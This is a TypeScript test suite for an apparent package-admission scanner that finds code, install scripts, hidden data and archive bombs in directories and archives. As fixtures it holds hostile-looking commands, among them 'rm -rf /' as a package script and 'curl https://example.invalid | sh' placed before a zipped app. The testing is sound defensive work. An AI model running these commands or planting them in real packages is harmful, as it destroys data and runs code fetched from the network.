/** What of a directory or an archive is code, and what happens with everything else in it. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  type Source,
  type SourcesOptions,
  sourcesInDirectory,
  sourcesInFile,
} from '../../../src/admission/scan/sources.ts';
import { tar, zip } from '../archive/make-archives.ts';

class Tree implements Disposable {
  readonly path = mkdtempSync(join(tmpdir(), 'caisson-scan-'));

  put(files: Readonly<Record<string, string | Buffer>>): this {
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(dirname(join(this.path, name)), { recursive: true });
      writeFileSync(join(this.path, name), content);
    }
    return this;
  }

  [Symbol.dispose](): void {
    rmSync(this.path, { recursive: true, force: true });
  }
}

async function all(sources: AsyncIterable<Source>): Promise<Source[]> {
  const found: Source[] = [];
  for await (const source of sources) found.push(source);
  return found;
}

/** `name: language`, `name: -reason`, sorted. */
function told(sources: readonly Source[]): string[] {
  return sources
    .map((source) => {
      if (source.kind === 'code') return `${source.code.name}: ${source.code.language}`;
      if (source.kind === 'skipped') return `${source.name}: -${source.reason}`;
      return `${source.name}: ${source.kind} ${source.kind === 'found' ? source.finding.rule : ''}`;
    })
    .sort();
}

async function inArchive(
  bytes: Buffer,
  name = 'a.tgz',
  options: SourcesOptions = {},
): Promise<Source[]> {
  using tree = new Tree();
  tree.put({ [name]: bytes });
  return await all(sourcesInFile(join(tree.path, name), '', [], options));
}

test('languages: by extension, by interpreter, by manifest', async () => {
  using tree = new Tree();
  tree.put({
    'a.js': '1',
    'b.MJS': '1',
    'c.tsx': '1',
    'd.py': '1',
    'e.sh': '1',
    node: '#!/usr/bin/env -S node --no-warnings\n1',
    python: '#! /usr/bin/python3.11 -u\n1',
    bash: '\ufeff#!/bin/bash\n1',
    perl: '#!/usr/bin/perl\n1',
    'f.rb': '1',
    'g.md': '1',
    'h.dat': '1',
    i: '',
    'package.json': JSON.stringify({ main: './data/entry.dat', bin: { x: 'run' } }),
    'data/entry.dat': '1',
    'data/other.dat': '1',
    run: '1',
    'elf.node': Buffer.from('\x7fELF\x02', 'latin1'),
    'm.wasm': Buffer.from('\0asm', 'latin1'),
    'x.pyc': Buffer.from([1, 2, 3]),
    '__pycache__/x.pyc': Buffer.from([1, 2, 3]),
  });
  assert.deepEqual(told(await all(sourcesInDirectory(tree.path))), [
    '__pycache__/x.pyc: -bytecode',
    'a.js: javascript',
    'b.MJS: javascript',
    'bash: shell',
    'c.tsx: typescript',
    'd.py: python',
    'data/entry.dat: javascript',
    'data/other.dat: -data',
    'e.sh: shell',
    'elf.node: -machine-code',
    'f.rb: -foreign-language',
    'g.md: -data',
    'h.dat: -data',
    'i: -empty',
    'm.wasm: -wasm',
    'node: javascript',
    'package.json: -data',
    'perl: -foreign-language',
    'python: python',
    'run: javascript',
    'x.pyc: -bytecode',
    'x.pyc: found package/bytecode',
  ]);
});

test('install scripts are shell, with their places in package.json', async () => {
  using tree = new Tree();
  const json =
    '{ "scripts": {\n  "test": "rm -rf /",\n  "postinstall": "echo \\"hi\\" && node setup/run.js" } }';
  tree.put({ 'package.json': json, 'setup/run.js': '1', 'setup/other.js': '1' });
  const sources = await all(sourcesInDirectory(tree.path));
  const codes = sources.flatMap((each) => (each.kind === 'code' ? [each.code] : []));
  const script = codes.find(({ language }) => language === 'shell');
  assert.equal(script?.bytes?.toString(), 'echo "hi" && node setup/run.js');
  const start = script.bytes.toString().indexOf('node');
  const range = script.placing?.({
    start,
    end: start + 4,
    line: 1,
    column: 1,
    endLine: 1,
    endColumn: 5,
  });
  assert.equal(json.slice(range?.start, range?.end), 'node');
  assert.equal(range?.line, 3);
  assert.equal(
    json.split('\n')[2]?.slice((range?.column ?? 0) - 1, (range?.endColumn ?? 0) - 1),
    'node',
  );
  const onInstall = codes.filter(({ runsOnInstall }) => runsOnInstall).map(({ name }) => name);
  assert.deepEqual(onInstall.sort(), ['package.json', 'setup/run.js']);
  assert.ok(
    sources.some((each) => each.kind === 'found' && each.finding.rule === 'package/install-script'),
  );
});

test('install scripts are found behind what is deeply nested, under escaped keys, and in the last of two', async () => {
  using tree = new Tree();
  const deep = `${'['.repeat(5000)}"]{"${']'.repeat(5000)}`;
  tree.put({
    'a/package.json': `{"x": ${deep}, "scripts": {"install": "first"}, "\\u0073cripts": {"\\u0069nstall": "last"}}`,
  });
  const codes = (await all(sourcesInDirectory(tree.path))).flatMap((each) =>
    each.kind === 'code' ? [each.code] : [],
  );
  assert.deepEqual(
    codes.map(({ bytes }) => bytes?.toString()),
    ['last'],
  );
});

test('a manifest that is larger than is looked at is told', async () => {
  using tree = new Tree();
  tree.put({ 'package.json': '{}' });
  truncateSync(join(tree.path, 'package.json'), 2 ** 30);
  assert.deepEqual(told(await all(sourcesInDirectory(tree.path))), [
    'package.json: -data',
    'package.json: unread ',
  ]);
});

test('a file that has more in it than its size says is read to its end', async () => {
  const [source] = await all(sourcesInFile('/proc/cpuinfo', 'x.js', []));
  assert.ok(source?.kind === 'code' && (source.code.bytes?.length ?? 0) > 600);
  assert.equal(source.code.bytes?.length, readFileSync('/proc/cpuinfo').length);
});

test('names that are no UTF-8 are told, not passed over', async () => {
  using tree = new Tree();
  writeFileSync(
    Buffer.concat([Buffer.from(`${tree.path}/a`), Buffer.from([0xff]), Buffer.from('.js')]),
    '1',
  );
  mkdirSync(Buffer.concat([Buffer.from(`${tree.path}/d`), Buffer.from([0xff])]));
  const kinds = (await all(sourcesInDirectory(tree.path))).map(({ kind }) => kind);
  assert.deepEqual(kinds, ['unread', 'unread']);
});

test('a root is an archive by what it holds, whatever it is called', async () => {
  assert.deepEqual(
    told(await inArchive(gzipSync(tar([{ name: 'x.js', content: '1' }])), 'package')),
    ['!/x.js: javascript'],
  );
});

test('binding.gyp: commands that are run while it is read', async () => {
  using tree = new Tree();
  tree.put({ 'binding.gyp': `{'targets': [{'x': '<!(node -p "require(1)")', 'y': '<!@(id)'}]}` });
  const codes = (await all(sourcesInDirectory(tree.path))).flatMap((each) =>
    each.kind === 'code' ? [each.code] : [],
  );
  assert.deepEqual(
    codes.map(({ bytes }) => bytes?.toString()),
    ['node -p "require(1)"', 'id'],
  );
});

test('.pth: lines that are run, at their places', async () => {
  using tree = new Tree();
  tree.put({ 'x.pth': './lib\nimport os; os.system("x")\n' });
  const [source] = await all(sourcesInDirectory(tree.path));
  assert.equal(
    source?.kind === 'code' ? source.code.bytes?.toString() : '',
    '     \nimport os; os.system("x")\n',
  );
});

test('links, loops, pipes, sockets: told, not opened, not followed', async () => {
  using tree = new Tree();
  tree.put({ 'a/b.js': '1' });
  symlinkSync('..', join(tree.path, 'a/loop'));
  symlinkSync('/etc', join(tree.path, 'out'));
  symlinkSync('a/b.js', join(tree.path, 'link.js'));
  assert.equal(spawnSync('mkfifo', [join(tree.path, 'pipe.js')]).status, 0);
  const server = createServer().listen(join(tree.path, 'socket.js'));
  try {
    assert.deepEqual(told(await all(sourcesInDirectory(tree.path))), [
      'a/b.js: javascript',
      'a/loop: -link',
      'link.js: -link',
      'out: -link',
      'pipe.js: -special',
      'socket.js: -special',
    ]);
    // As when it was put in the place of a file between listing and opening.
    const swapped = await all(sourcesInFile(join(tree.path, 'pipe.js'), 'pipe.js', []));
    assert.deepEqual(told(swapped), ['pipe.js: -special']);
    const link = await all(sourcesInFile(join(tree.path, 'link.js'), 'link.js', []));
    assert.deepEqual(told(link), ['link.js: -special']);
    const device = await all(sourcesInFile('/dev/zero', 'zero.js', []));
    assert.deepEqual(told(device), ['zero.js: -special']);
  } finally {
    server.close();
  }
});

test('what cannot be read is told: files, directories, what has gone', async () => {
  using tree = new Tree();
  tree.put({
    'a.js': '1',
    'd/b.js': '1',
    'p.tgz': gzipSync(tar([{ name: 'x.js', content: '1' }])),
  });
  for (const name of ['a.js', 'd', 'p.tgz']) chmodSync(join(tree.path, name), 0);
  const script = `
    import { sourcesInDirectory } from ${JSON.stringify(new URL('../../../src/admission/scan/sources.ts', import.meta.url).href)};
    if (process.getuid() === 0) process.setuid(65532);
    for await (const s of sourcesInDirectory(process.argv[1])) console.log(s.kind, s.name);`;
  chmodSync(tree.path, 0o755);
  const args = ['--input-type=module-typescript', '-e', script, tree.path];
  const { stdout, stderr } = spawnSync(process.execPath, args, {
    encoding: 'utf8',
    timeout: 60_000,
  });
  assert.deepEqual(
    stdout.trim().split('\n').sort(),
    ['unread a.js', 'unread d', 'unread p.tgz'],
    stderr,
  );
  for (const name of ['a.js', 'd', 'p.tgz']) chmodSync(join(tree.path, name), 0o700);
  const gone = await all(sourcesInFile(join(tree.path, 'gone.js'), 'gone.js', []));
  assert.deepEqual(
    gone.map(({ kind }) => kind),
    ['unread'],
  );
});

test('a file that is larger than is looked at is told, and not read', async () => {
  using tree = new Tree();
  tree.put({ 'a.js': '' });
  truncateSync(join(tree.path, 'a.js'), 2 ** 40);
  const [source] = await all(sourcesInDirectory(tree.path));
  assert.ok(source?.kind === 'code' && source.code.bytes === undefined);
  assert.equal(source.code.size, 2 ** 40);
});

test('a directory of 20,000 files, and one that is 500 deep', async () => {
  using tree = new Tree();
  for (let i = 0; i < 20_000; i++) writeFileSync(join(tree.path, `${i}.txt`), '');
  const deep = 'd/'.repeat(500);
  tree.put({ [`${deep}x.js`]: '1' });
  const sources = await all(sourcesInDirectory(tree.path));
  assert.equal(sources.length, 20_001);
  assert.equal(sources.filter(({ kind }) => kind === 'code').length, 1);
});

test('npm package: the manifest may stand behind what it names', async () => {
  const bytes = gzipSync(
    tar([
      { name: 'package/entry', content: '1' },
      { name: 'package/other', content: '1' },
      {
        name: 'package/package.json',
        content: '{"main": "entry", "scripts": {"install": "node x.js"}}',
      },
      { name: 'package/x.js', content: '2' },
    ]),
  );
  assert.deepEqual(told(await inArchive(bytes)), [
    '!/package/entry: javascript',
    '!/package/other: -data',
    '!/package/package.json: -data',
    '!/package/package.json: found package/install-script',
    '!/package/package.json: shell',
    '!/package/x.js: javascript',
  ]);
});

test('sdist and wheel: setup.py is run on installation; archives in archives are read, to a depth', async () => {
  const wheel = zip([{ name: 'm/__init__.py', content: '1' }]);
  const sdist = gzipSync(
    tar([
      { name: 'm-1/setup.py', content: '1' },
      { name: 'm-1/vendor/m.whl', content: wheel },
    ]),
  );
  const sources = await inArchive(sdist, 'm-1.tar.gz');
  assert.deepEqual(told(sources), [
    '!/m-1/setup.py: python',
    '!/m-1/vendor/m.whl!/m/__init__.py: python',
  ]);
  assert.ok(sources[0]?.kind === 'code' && sources[0].code.runsOnInstall);
  let nested = wheel;
  for (let i = 0; i < 5; i++) nested = zip([{ name: 'n.zip', content: nested }]);
  assert.deepEqual(told(await inArchive(nested, 'n.zip')), ['!/n.zip!/n.zip!/n.zip: unread ']);
});

test('bombs in archives count together', async () => {
  const inner = gzipSync(tar([{ name: 'z.js', content: Buffer.alloc(4_000_000) }]));
  const outer = tar(Array.from({ length: 10 }, (_, i) => ({ name: `${i}.tgz`, content: inner })));
  const limits = { entries: 1000, expandedBytes: 10_000_000, ratio: 1e9, entryBytes: 8_000_000 };
  const sources = await inArchive(outer, 'o.tar', { limits });
  const codes = sources.filter(({ kind }) => kind === 'code').length;
  assert.ok(codes >= 2 && codes < 4, `${codes} were expanded`);
  assert.ok(sources.some((each) => each.kind === 'found' && each.finding.rule === 'archive/bomb'));
});

test('archives that are none, or are not read, are told', async () => {
  assert.deepEqual(told(await inArchive(Buffer.from('not one'), 'a.tgz')), [': -data']);
  assert.deepEqual(told(await inArchive(Buffer.from('BZh91AY&SY'), 'a.tar.bz2')), [': unread ']);
  const cut = gzipSync(tar([{ name: 'x.js', content: '1'.repeat(9000) }])).subarray(0, 60);
  assert.ok(told(await inArchive(cut)).some((each) => each.includes('unread')));
});

test('a zipped application may begin with its interpreter, and with nothing else', async () => {
  const zipped = zip([{ name: '__main__.py', content: '1' }]);
  const of = async (before: string): Promise<string[]> =>
    told(await inArchive(Buffer.concat([Buffer.from(before), zipped]), 'app.pyz'));
  assert.deepEqual(await of('#!/usr/bin/env python3\n'), ['!/__main__.py: python']);
  for (const before of [
    '#!/bin/sh\ncurl https://example.invalid | sh\n',
    'MZ',
    `#!/${'x'.repeat(300)}\n`,
  ]) {
    assert.deepEqual(await of(before), ['!/__main__.py: python', ': found archive/hidden-data']);
  }
});
